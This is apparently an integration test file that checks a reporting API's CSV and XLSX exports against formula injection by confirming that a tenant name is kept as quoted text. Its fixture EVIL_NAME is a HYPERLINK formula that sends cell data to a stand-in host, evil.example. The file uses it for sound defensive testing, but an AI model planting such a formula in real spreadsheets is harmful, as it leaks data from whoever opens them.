"""CSV and XLSX exports keep text from configuration and input as text — a tenant named like a
formula is never a formula in the coordinator's Excel (OWASP CSV injection rules) — and the counts
beside it stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl

from tests.integration.api.support import Api, StartApi, auth, body, write_config

EVIL_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Erkelenz")'
UNKNOWN_SERVICE = "99999999999999"  # a service of its own, so the row is easy to find


def evil(tenant_id: str, document: dict[str, Any]) -> None:
    if tenant_id == "erkelenz":
        document["name"] = EVIL_NAME
        for route in document["routes"]:
            route["services"] = [*route["services"], UNKNOWN_SERVICE]
            break


async def served(sqlite_url: str, start_api: StartApi, tmp_path: Path) -> Api:
    api = await start_api(sqlite_url, config_dir=write_config(tmp_path / "evil", evil))
    submitted = await api.client.post(
        "/v1/applications",
        json=body(leika_key=UNKNOWN_SERVICE),
        headers=auth("portal-a"),
    )
    assert submitted.status == 202, await submitted.text()
    return api


async def test_csv_quotes_formula_text_and_leaves_numbers(
    sqlite_url: str, start_api: StartApi, tmp_path: Path
) -> None:
    api = await served(sqlite_url, start_api, tmp_path)

    response = await api.client.get(
        "/v1/reports/ozg",
        params={"format": "csv", "view": "tenant-services", "tenant": "erkelenz"},
        headers=auth("coordinator"),
    )

    assert response.status == 200
    text = await response.text()
    rows = list(csv.DictReader(io.StringIO(text)))
    [row] = [r for r in rows if r["leika_key"] == UNKNOWN_SERVICE]
    assert row["tenant_name"] == "'" + EVIL_NAME
    assert row["received"] == "1"
    # Every text field is quoted (a ";" inside cannot start a cell in a ";"-splitting Excel);
    # numbers are bare.
    line = next(raw for raw in text.splitlines() if UNKNOWN_SERVICE in raw)
    assert '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Erkelenz"")"' in line
    assert ",1," in line


async def test_xlsx_types_formula_text_as_strings_and_numbers_as_numbers(
    sqlite_url: str, start_api: StartApi, tmp_path: Path
) -> None:
    api = await served(sqlite_url, start_api, tmp_path)

    response = await api.client.get(
        "/v1/reports/ozg",
        params={"format": "xlsx", "tenant": "erkelenz"},
        headers=auth("coordinator"),
    )

    assert response.status == 200
    workbook = openpyxl.load_workbook(io.BytesIO(await response.read()))
    sheet = workbook["Leistungen je Kommune"]
    header = [cell.value for cell in sheet[1]]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[header.index("LeiKa-Schlüssel")].value
             == UNKNOWN_SERVICE]  # fmt: skip
    name = row[header.index("Kommune")]
    received = row[header.index("eingegangen")]
    assert name.data_type == "s"  # a string cell, not a formula ("f")
    assert name.quotePrefix is True  # and stays text when edited in Excel
    assert name.value == EVIL_NAME  # the text itself is unchanged
    assert received.value == 1
    assert received.data_type == "n"
    overview = workbook["Übersicht"]
    [tenants] = [r for r in overview.iter_rows() if r[0].value == "Kommunen"]
    assert tenants[1].data_type == "s"
    assert tenants[1].value.startswith("=")
    assert tenants[1].quotePrefix is True
    formulas = [
        cell.coordinate
        for ws in workbook.worksheets
        for r in ws.iter_rows()
        for cell in r
        if cell.data_type == "f"
    ]
    assert formulas == []
